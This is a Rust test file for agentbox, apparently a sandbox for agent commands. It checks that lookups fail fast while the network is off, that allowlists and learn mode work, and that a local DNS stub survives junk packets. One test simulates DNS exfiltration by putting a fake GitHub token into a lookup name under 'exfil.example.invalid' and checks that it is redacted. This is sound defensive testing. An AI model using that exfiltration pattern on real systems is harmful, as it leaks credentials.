//! Issue 14: a network-off that explains itself. With a network namespace the box's lookups go
//! to agentbox's stub resolver on the box's own loopback, which answers NXDOMAIN at once and
//! names what was asked: the summary lists each name with its `--allow-host` line, and `learn`
//! started from a network-off profile grants it. Without one, lookups fail at once too, and the
//! plan says the names cannot be recorded. Nothing here leaves the host's loopback.

use crate::common::*;
use std::path::PathBuf;

/// A name nobody resolves, different each run.
fn fresh_name(tag: &str) -> String {
    let t = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("{tag}-{}-{t:x}.agentbox-test", std::process::id())
}

#[test]
fn with_the_network_off_a_lookup_fails_at_once_and_the_summary_names_it() {
    for who in who() {
        let f = Fixture::new(who);
        let name = fresh_name("off");
        let py = format!(
            "import socket\ntry:\n    socket.getaddrinfo('py-{name}', 443)\nexcept OSError as e:\n    print('py-failed', e.errno)"
        );
        let script = format!(
            "cat /etc/resolv.conf; getent hosts {name}; echo getent=$?; {} -c \"{py}\"; \
             echo retries=$npm_config_fetch_retries,$PIP_RETRIES,$CARGO_NET_RETRY",
            python()
        );
        let out = f.agentbox(&["run", "--", "sh", "-c", &script]);
        let (s, e) = (stdout(&out), stderr(&out));
        let ctx = format!("[{who:?}/namespaces]");
        assert!(
            s.contains("nameserver 127.0.0.1") && s.contains("getent=2"),
            "{ctx} {s}\n{e}"
        );
        // EAI_NONAME: a final "no such name", not a temporary failure to retry.
        assert!(s.contains("py-failed -2"), "{ctx} {s}");
        // Package managers do not retry what cannot succeed (npm's back-off took 70 s).
        assert!(s.contains("retries=0,0,0"), "{ctx} {s}");
        for n in [name.clone(), format!("py-{name}")] {
            assert!(
                e.contains(&format!("network {n}: looked up by name (the network is off) -> --allow-host {n} or `network.allow: [\"{n}\"]`")),
                "{ctx} the summary names {n}:\n{e}"
            );
        }
        // Without a network namespace the lookup fails at once too, and nothing is recorded;
        // the plan says so.
        let out = f.agentbox(&[
            "run",
            USERNS_OFF[0],
            USERNS_OFF[1],
            "--",
            "getent",
            "hosts",
            &name,
        ]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "[{who:?}/no-namespaces] {}",
            stderr(&out)
        );
        assert!(
            !stderr(&out).contains(&name),
            "[{who:?}/no-namespaces] {}",
            stderr(&out)
        );
        let out = f.agentbox(&[
            "run",
            "--dry-run",
            USERNS_OFF[0],
            USERNS_OFF[1],
            "--",
            "true",
        ]);
        assert!(
            stdout(&out).contains("the names asked cannot be recorded without a network namespace"),
            "[{who:?}/no-namespaces] {}",
            stdout(&out)
        );
    }
}

#[test]
fn the_stub_answers_udp_and_tcp_and_survives_garbage() {
    let f = Fixture::new(As::Me);
    let name = fresh_name("raw");
    let body = format!(
        r#"
def q(name, qid):
    m = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0)
    for l in name.split('.'):
        m += bytes([len(l)]) + l.encode()
    return m + b'\x00\x00\x01\x00\x01'
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
for junk in [b'', b'\x00', b'\xff' * 12, b'\x12\x34\x01\x00\x00\x01' + b'\x00' * 6 + b'\xc0\x0c', os.urandom(300)]:
    u.sendto(junk, ('127.0.0.1', 53))
u.sendto(q('udp-{name}', 0x4242), ('127.0.0.1', 53))
while True:
    r = u.recv(512)
    if r[:2] == b'\x42\x42':
        break
report('udp_rcode', lambda: r[3] & 15)
s = socket.create_connection(('127.0.0.1', 53), timeout=2)
m = q('tcp-{name}', 7)
s.sendall(struct.pack('>H', len(m)) + m)
n = struct.unpack('>H', s.recv(2))[0]
r = s.recv(n)
report('tcp_rcode', lambda: r[3] & 15)
"#
    );
    let (out, v) = py_box(&f, FULL, &body, &[]);
    let ctx = "[stub over udp and tcp]";
    want(ctx, &out, &v, "udp_rcode", &["3"]);
    want(ctx, &out, &v, "tcp_rcode", &["3"]);
    want(ctx, &out, &v, "DONE", &["1"]);
    let out = f.agentbox(&["run", "--", python(), "-c", &py_script(&body)]);
    let e = stderr(&out);
    assert!(
        e.contains(&format!("udp-{name}")) && e.contains(&format!("tcp-{name}")),
        "{e}"
    );
}

#[test]
fn with_an_allowlist_only_names_it_does_not_admit_are_listed() {
    let f = Fixture::new(As::Me);
    let (allowed, other) = (fresh_name("allowed"), fresh_name("other"));
    let out = f.agentbox(&[
        "run",
        "--allow-host",
        &allowed,
        "--",
        "sh",
        "-c",
        &format!("getent hosts {allowed}; getent hosts {other}; true"),
    ]);
    let e = stderr(&out);
    assert!(
        e.contains(&format!(
            "network {other}: looked up by name (not in the allowlist"
        )),
        "{e}"
    );
    assert!(!e.contains(&format!("network {allowed}:")), "{e}");
}

/// Run `f` on a thread of its own mount namespace where `binds` (source, target) are bound:
/// what it starts sees them, the rest of the test process does not.
fn with_binds<T: Send>(binds: &[(PathBuf, &str)], f: impl FnOnce() -> T + Send) -> T {
    use std::ffi::CString;
    std::thread::scope(|s| {
        s.spawn(|| {
            // SAFETY: unshare and mount on this thread's own, fresh mount namespace; the
            // paths are valid C strings that outlive the calls.
            unsafe {
                assert_eq!(libc::unshare(libc::CLONE_NEWNS), 0, "unshare");
                let root = CString::new("/").unwrap();
                let none = std::ptr::null();
                let flags = libc::MS_REC | libc::MS_PRIVATE;
                assert_eq!(
                    libc::mount(none, root.as_ptr(), none, flags, none.cast()),
                    0
                );
                for (src, dst) in binds {
                    let (s, d) = (
                        CString::new(src.to_str().unwrap()).unwrap(),
                        CString::new(*dst).unwrap(),
                    );
                    let r = libc::mount(s.as_ptr(), d.as_ptr(), none, libc::MS_BIND, none.cast());
                    assert_eq!(r, 0, "bind {dst}");
                }
            }
            f()
        })
        .join()
        .unwrap()
    })
}

// `learn` from the network-off `default`: the command's lookup reaches the stub, the name is
// granted, the next round goes through the proxy (which names the port), and the learned
// profile lets the command pass. The host side resolves the name through a DNS server of the
// test's on the host's loopback, seen only by agentbox (its own resolv.conf, bound in a mount
// namespace of the test's); the box never reaches it.
#[test]
fn learn_from_network_off_grants_the_host_a_command_looked_up() {
    if !require(
        "root, to serve DNS on port 53 and bind a resolv.conf for agentbox",
        is_root(),
    ) {
        return;
    }
    for (k, who) in who().into_iter().enumerate() {
        let f = Fixture::new(who);
        let name = fresh_name("learn");
        // One address per round: the server of the round before keeps its socket a while.
        let ip = format!("127.53.{}.{}", std::process::id() % 250, k + 1);
        let sock = std::net::UdpSocket::bind(format!("{ip}:53")).expect("bind the test DNS server");
        let answered = dns_server(sock, name.clone());
        let (port, hits) = http_server("127.0.0.1:0", "learn");
        let conf = f.dir.path().join("resolv.conf");
        std::fs::write(
            &conf,
            format!("nameserver {ip}\noptions attempts:2 timeout:1\n"),
        )
        .unwrap();
        let nss = f.dir.path().join("nsswitch.conf");
        std::fs::write(&nss, "hosts: files dns\n").unwrap();
        let learned = f.dir.path().join("learned.yaml");
        let cmd = format!("curl -sf -m 5 http://{name}:{port}/");
        let binds = [(conf, "/etc/resolv.conf"), (nss, "/etc/nsswitch.conf")];
        let (out, run) = with_binds(&binds, || {
            let out = f.agentbox(&[
                "learn",
                "-o",
                learned.to_str().unwrap(),
                "--",
                "sh",
                "-c",
                &cmd,
            ]);
            let run = f.agentbox(&[
                "run",
                "-q",
                "-p",
                learned.to_str().unwrap(),
                "--",
                "sh",
                "-c",
                &cmd,
            ]);
            (out, run)
        });
        let ctx = format!("[{who:?}]");
        let y = std::fs::read_to_string(&learned).unwrap_or_default();
        assert!(out.status.success(), "{ctx} learn: {}\n{y}", stderr(&out));
        assert!(
            y.contains(&format!("\"{name}")) && y.contains("network:"),
            "{ctx} the looked-up name is granted:\n{y}"
        );
        assert!(
            stdout(&run).contains("ok-learn"),
            "{ctx} the learned profile lets the command pass: {}\n{y}",
            stderr(&run)
        );
        assert!(hits.load(std::sync::atomic::Ordering::SeqCst) >= 1);
        assert!(
            answered.load(std::sync::atomic::Ordering::SeqCst) >= 1,
            "{ctx} agentbox resolved through the test's server"
        );
    }
}

// A lookup used to smuggle a secret out (the box found a token and asks for
// `TOKEN.example.com`) goes nowhere, and the summary and the report name it masked.
#[test]
fn a_name_carrying_a_token_is_masked_in_the_summary_and_the_report() {
    let f = Fixture::new(As::Me);
    let tok = format!("gh{}_{}", "p", "Sm5gGl3dSm5gGl3dSm5gGl3dSm5gGl3dSm5g");
    let report = f.dir.path().join("report.json");
    let name = format!("{tok}.exfil.example.invalid");
    let out = f.agentbox(&[
        "run",
        "--report",
        report.to_str().unwrap(),
        "--",
        "getent",
        "hosts",
        &name,
    ]);
    let e = stderr(&out);
    let r = std::fs::read_to_string(&report).unwrap_or_default();
    let low = tok.to_lowercase();
    for (what, text) in [("summary", &e), ("report", &r)] {
        assert!(
            !text.contains(&tok) && !text.contains(&low),
            "{what} holds the token"
        );
    }
    assert!(
        e.contains("[REDACTED:github-pat].exfil.example.invalid: looked up by name")
            && e.contains("not a host name agentbox can allow"),
        "{e}"
    );
    assert!(
        r.contains("[REDACTED:github-pat].exfil.example.invalid"),
        "{r}"
    );
}
